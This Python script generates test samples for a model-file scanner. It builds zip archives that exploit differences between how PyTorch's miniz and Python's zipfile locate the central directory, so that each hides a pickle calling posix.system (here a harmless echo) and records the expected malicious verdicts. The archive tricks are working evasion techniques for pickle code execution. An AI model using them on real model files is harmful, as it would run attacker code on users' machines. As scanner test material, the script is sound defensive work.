#!/usr/bin/python3
"""Writes samples/zip-differentials/: zip archives whose central directory PyTorch's reader (miniz)
or Python's zipfile (numpy.load) finds elsewhere than a careful reader would, each hiding a pickle
that calls posix.system, and expected.json. Found by an attack review; every sample is loaded once
by the real loader in a child process to prove that the payload runs (`echo`, harmless).

- eocd_in_comment.npz / eocd_in_comment.pt: a benign archive whose end record's comment holds the
  payload's entries, a second directory and a second end record that declares a comment longer than
  what is left. miniz and zipfile both take the last end-record signature (neither checks the
  comment), so they read the second directory.
- eocd_directory_after.pt: the same, the second end record's directory placed after it (miniz reads
  it; zipfile cannot).
- zip64_adjacent.npz: the zip64 locator points at a benign zip64 end record whose extensible data
  holds the payload's entries, a second directory and a second zip64 end record right before the
  locator. miniz follows the pointer; zipfile reads the record right before the locator.
- zip64_fallback.npz: no zip64 record right before the locator, so zipfile falls back to the 32-bit
  fields and finds a directory right before the end record (offsets shifted by the difference),
  another one than the one the fields name.
- zip64_second_extra.npz: the member's central record defers its local header offset to a zip64
  extra field whose value is 0xFFFFFFFF again; a second zip64 extra field holds the real offset.
  miniz reads the first field only; zipfile reads every one, each filling what is still 0xFFFFFFFF.
A second review round, against the reader that handled those:
- zip64_pointer_nowhere.pt: the zip64 locator points at a local header, not a zip64 record: miniz
  then keeps the 32-bit fields (the payload's directory, in a benign record's comment), while a
  zip64 record right before the locator (zipfile's reading) names the benign directory.
- end_record_at_51.pt: the end record sits at offset 51, where miniz looks for no zip64 locator
  (it needs 76 bytes before the record) and reads the 32-bit fields.
- end_record_far.pt: the end record 69,000 bytes from the end (zero padding after it): miniz reads
  back 4 KiB at a time until it is 64 KiB + 22 bytes from the end, so it still finds it.
- miniz_directory_missing.npz: miniz's zip64 record names a directory that is not there; zipfile
  reads the one its own reading finds.
- same_header_two_methods.npz: both directories list x.npy at the same local header, miniz's as
  stored (the raw deflate bytes), zipfile's as deflated.

Run from the repository root with /usr/bin/python3 (Debian python3-numpy, python3-torch).
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zlib

import numpy as np

ROOT = os.path.join("samples", "zip-differentials")
PAYLOAD = "echo modelgate-sample"
MARK = b"modelgate-sample"
EXPECTED = {}
posix = __import__("posix")


class Evil:
    def __reduce__(self):
        return (posix.system, (PAYLOAD,))


def npy_object():
    """An object-array .npy whose pickle calls posix.system (numpy.load(allow_pickle=True) runs it)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (64 - 10 - len(header) - 1) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle.dumps(Evil(), protocol=2)


def npy_benign(n=4):
    b = io.BytesIO()
    np.save(b, np.arange(n))
    return b.getvalue()


def local(name, data):
    crc = zlib.crc32(data)
    nb = name.encode()
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(nb), 0)
    return head + nb + data, {"name": nb, "crc": crc, "size": len(data)}


def central(info, offset, comment=b""):
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x314, 20, 0, 0, 0, 0x21, info["crc"], info["size"], info["size"],
            len(info["name"]), 0, len(comment), 0, 0, 0o100644 << 16, offset,
        )
        + info["name"]
        + comment
    )


def end_record(n, cd_size, cd_offset, comment_length=0):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_offset, comment_length)


def zip64_record(size, n, cd_size, cd_offset):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, size, 45, 45, 0, 0, n, n, cd_size, cd_offset)


def build(entries, base=0):
    """Local entries (stored) and their directory, offsets from `base`."""
    out = b""
    infos = []
    for name, data in entries:
        rec, info = local(name, data)
        infos.append((info, base + len(out)))
        out += rec
    return out, b"".join(central(i, o) for i, o in infos), len(infos)


def torch_entries():
    """The members of a real torch.save archive (renamed root `archive`)."""
    import torch

    b = io.BytesIO()
    torch.save({"w": torch.arange(3)}, b)
    import zipfile

    z = zipfile.ZipFile(io.BytesIO(b.getvalue()))
    root = z.namelist()[0].split("/")[0]
    return [("archive" + i.filename[len(root):], z.read(i)) for i in z.infolist()]


def torch_payload_entries():
    return [("archive/data.pkl", pickle.dumps(Evil(), protocol=2)), ("archive/version", b"3\n")]


def eocd_in_comment(benign, evil, directory_after=False):
    la, cda, na = build(benign)
    comment_start = len(la) + len(cda) + 22
    lm, cdb, nb = build(evil, base=comment_start)
    if directory_after:
        # the second end record, then its directory (miniz reads it there; zipfile cannot)
        b_at = comment_start + len(lm)
        tail = lm + end_record(nb, len(cdb), b_at + 22, 0) + cdb
    else:
        # its comment is declared 1 byte long with nothing after it
        tail = lm + cdb + end_record(nb, len(cdb), comment_start + len(lm), 1)
    return la + cda + end_record(na, len(cda), len(la), len(tail)) + tail


def zip64_adjacent(benign, evil):
    la, cda, na = build(benign)
    r1 = len(la) + len(cda)
    lm, cdb, nb = build(evil, base=r1 + 56)
    r2 = r1 + 56 + len(lm) + len(cdb)
    locator_at = r2 + 56
    rec1 = zip64_record(locator_at - r1 - 12, na, len(cda), len(la))  # its extensible data runs to the locator
    rec2 = zip64_record(44, nb, len(cdb), r1 + 56 + len(lm))
    locator = struct.pack("<IIQI", 0x07064B50, 0, r1, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return la + cda + rec1 + lm + cdb + rec2 + locator + end


def zip64_fallback():
    lb, ib = local("x.npy", npy_benign(64))
    le, ie = local("x.npy", npy_object())
    cd_a = central(ib, 0, b"\0" * 20)
    size = len(cd_a)
    cd_a_at = len(lb)
    r1 = cd_a_at + size
    evil_at = r1 + 56  # inside the zip64 record's extensible data
    cd_b_at = evil_at + len(le)
    end_at = cd_b_at + size
    locator_at = end_at - 20
    shift = end_at - size - cd_a_at  # zipfile's `concat`
    assert evil_at - shift >= 0
    locator = struct.pack("<IIQI", 0x07064B50, 0, r1, 1)
    cd_b = central(ie, evil_at - shift, locator)  # the locator is the tail of its comment
    assert len(cd_b) == size
    rec1 = zip64_record(locator_at - r1 - 12, 1, size, cd_a_at)
    data = lb + cd_a + rec1 + le + cd_b + end_record(1, size, cd_a_at, 0)
    assert data[locator_at : locator_at + 4] == b"PK\x06\x07" and len(data) == end_at + 22
    return data


def zip64_second_extra():
    lb, ib = local("w.npy", npy_benign())
    le, ie = local("x.npy", npy_object())
    evil_at = len(lb)
    cd_b = central(ib, 0)
    extras = struct.pack("<HHQ", 1, 8, 0xFFFFFFFF) + struct.pack("<HHQ", 1, 8, evil_at)
    cd_e = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x314, 45, 0, 0, 0, 0x21, ie["crc"], ie["size"], ie["size"],
            len(ie["name"]), len(extras), 0, 0, 0, 0o100644 << 16, 0xFFFFFFFF,
        )
        + ie["name"]
        + extras
    )
    cd = cd_b + cd_e
    body = lb + le
    return body + cd + end_record(2, len(cd), len(body), 0)


def local_raw(name, comp, method, crc, usize):
    nb = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(comp), usize, len(nb), 0) + nb + comp


def central_raw(name, offset, method, crc, csize, usize, comment=b""):
    nb = name.encode()
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x314, 20, 0, method, 0, 0x21, crc, csize, usize,
            len(nb), 0, len(comment), 0, 0, 0o100644 << 16, offset,
        )
        + nb
        + comment
    )


def locator(offset):
    return struct.pack("<IIQI", 0x07064B50, 0, offset, 1)


def hidden_in_comment(benign, evil, base, first=()):
    """Benign members from `base`, their directory (after the records `first`) whose last record's
    comment holds the payload's members and directory: the bytes, the benign directory's offset and
    bytes, the payload directory's offset, bytes and count, the benign count."""
    out = b""
    infos = list(first)
    for name, data in benign:
        rec, info = local(name, data)
        infos.append((info, base + len(out)))
        out += rec
    cd_at = base + len(out)
    head = b"".join(central(i, o) for i, o in infos[:-1])
    comment_at = cd_at + len(head) + len(central(*infos[-1]))
    lm, cd_evil, n_evil = build(evil, base=comment_at)
    cd = head + central(*infos[-1], comment=lm + cd_evil)
    return out + cd, cd_at, cd, comment_at + len(lm), cd_evil, n_evil, len(infos)


def zip64_pointer_nowhere():
    body, cd_at, cd, evil_cd_at, cd_evil, n_evil, n = hidden_in_comment(torch_entries(), torch_payload_entries(), 0)
    # a zip64 record right before the locator names the benign directory; the locator points at 0
    return body + zip64_record(44, n, len(cd), cd_at) + locator(0) + end_record(n_evil, len(cd_evil), evil_cd_at)


def end_record_at_51():
    first = local_raw("a", b"", 0, 0, 0)  # 31 bytes: the locator, then the end record at 51
    base = len(first) + 20 + 22
    a = ({"name": b"a", "crc": 0, "size": 0}, 0)
    body, cd_at, cd, evil_cd_at, cd_evil, n_evil, n = hidden_in_comment(
        torch_entries(), torch_payload_entries(), base, first=[a]
    )
    rest = body + zip64_record(44, n, len(cd), cd_at)  # the benign directory, for a zip64 reader
    data = first + locator(base + len(body)) + end_record(n_evil, len(cd_evil), evil_cd_at, len(rest)) + rest
    assert data[51:55] == b"PK\x05\x06" and data.rfind(b"PK\x05\x06") == 51
    return data


def end_record_far():
    import torch

    b = io.BytesIO()
    torch.save({"w": torch.zeros(2), "p": Evil()}, b)
    return b.getvalue() + b"\0" * (69000 - 22)


def miniz_directory_missing():
    le, ie = local("x.npy", npy_object())
    record_at = len(le)
    cd_at = record_at + 56
    cd = central(ie, 0)
    return (
        le
        + zip64_record(44, 1, 46, 5)  # miniz's record: a directory "at 5"
        + cd
        + zip64_record(44, 1, len(cd), cd_at)  # zipfile's, right before the locator
        + locator(record_at)
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def same_header_two_methods():
    data = npy_object()
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = c.compress(data) + c.flush()
    lh = local_raw("x.npy", raw, 0, zlib.crc32(raw), len(raw))
    cd_a = central_raw("x.npy", 0, 0, zlib.crc32(raw), len(raw), len(raw))  # miniz's: stored
    cd_b = central_raw("x.npy", 0, 8, zlib.crc32(data), len(raw), len(data))  # zipfile's: deflated
    r1 = len(lh) + len(cd_a)
    cd_b_at = r1 + 56
    r2 = cd_b_at + len(cd_b)
    locator_at = r2 + 56
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return (
        lh + cd_a + zip64_record(locator_at - r1 - 12, 1, len(cd_a), len(lh)) + cd_b
        + zip64_record(44, 1, len(cd_b), cd_b_at) + locator(r1) + end
    )


def write(rel, data, loader, rules=("pickle/dangerous-global", "zip/inconsistent-directory")):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    code = {
        "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)['x']",
        "torch": "import torch,sys; torch.load(sys.argv[1])",
    }[loader]
    r = subprocess.run([sys.executable, "-c", code, path], capture_output=True, timeout=120)
    if MARK not in r.stdout + r.stderr:
        raise SystemExit(f"{rel}: the payload did not run under {loader}: {r.stderr[-400:]!r}")
    EXPECTED[f"zip-differentials/{rel}"] = {
        "verdict": "malicious",
        "rules": list(rules),
        "callee": "posix.system",
    }


NPY_BENIGN = [("x.npy", npy_benign())]
NPY_EVIL = [("x.npy", npy_object())]
write("eocd_in_comment.npz", eocd_in_comment(NPY_BENIGN, NPY_EVIL), "numpy")
write("eocd_in_comment.pt", eocd_in_comment(torch_entries(), torch_payload_entries()), "torch")
write("eocd_directory_after.pt", eocd_in_comment(torch_entries(), torch_payload_entries(), True), "torch")
write("zip64_adjacent.npz", zip64_adjacent(NPY_BENIGN, NPY_EVIL), "numpy")
write("zip64_fallback.npz", zip64_fallback(), "numpy")
write("zip64_second_extra.npz", zip64_second_extra(), "numpy", rules=["pickle/dangerous-global", "zip/zip64-inconsistent"])
write("zip64_pointer_nowhere.pt", zip64_pointer_nowhere(), "torch")
write("end_record_at_51.pt", end_record_at_51(), "torch")
write("end_record_far.pt", end_record_far(), "torch", rules=["pickle/dangerous-global"])
write("miniz_directory_missing.npz", miniz_directory_missing(), "numpy")
write("same_header_two_methods.npz", same_header_two_methods(), "numpy")

with open(os.path.join(ROOT, "expected.json"), "w") as f:
    json.dump(EXPECTED, f, indent=1, sort_keys=True)
    f.write("\n")
print(f"{ROOT}: {len(EXPECTED)} samples", file=sys.stderr)
